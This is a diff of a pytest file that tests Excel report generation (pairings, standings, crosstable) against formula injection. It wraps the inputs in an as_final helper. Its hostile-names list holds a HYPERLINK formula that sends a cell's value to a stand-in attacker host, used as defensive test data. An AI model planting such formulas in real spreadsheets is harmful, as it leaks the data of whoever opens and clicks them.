@@ -15,6 +15,7 @@ import pytest
 from openpyxl import load_workbook
 
 from reports import EXCEL_KINDS, build_report
+from tests.reports.conftest import as_final
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
@@ -65,7 +66,7 @@ ARGS = {
 
 @pytest.mark.parametrize("kind", EXCEL_KINDS)
 def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile_go, kind) -> None:
-    out = build_report(hostile_go, kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
+    out = build_report(as_final(hostile_go), kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
     texts: set[str] = set()
     for ws in load_workbook(out).worksheets:
         for row in ws.iter_rows():
@@ -111,7 +112,7 @@ def test_a_formula_name_from_the_registration_sheet_is_text_in_the_reports(tmp_p
         db.close()
     for kind, args in (("pairings", {"event": "OPEN", "round": 1}),
                        ("standings", {"event": "OPEN"}), ("crosstable", {"event": "OPEN"})):
-        out = build_report(doc, kind, tmp_path / f"{kind}.xlsx", **args)
+        out = build_report(as_final(doc), kind, tmp_path / f"{kind}.xlsx", **args)
         cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
         assert not [c.coordinate for c in cells if c.data_type == "f"], kind
         assert link in [c.value for c in cells], kind
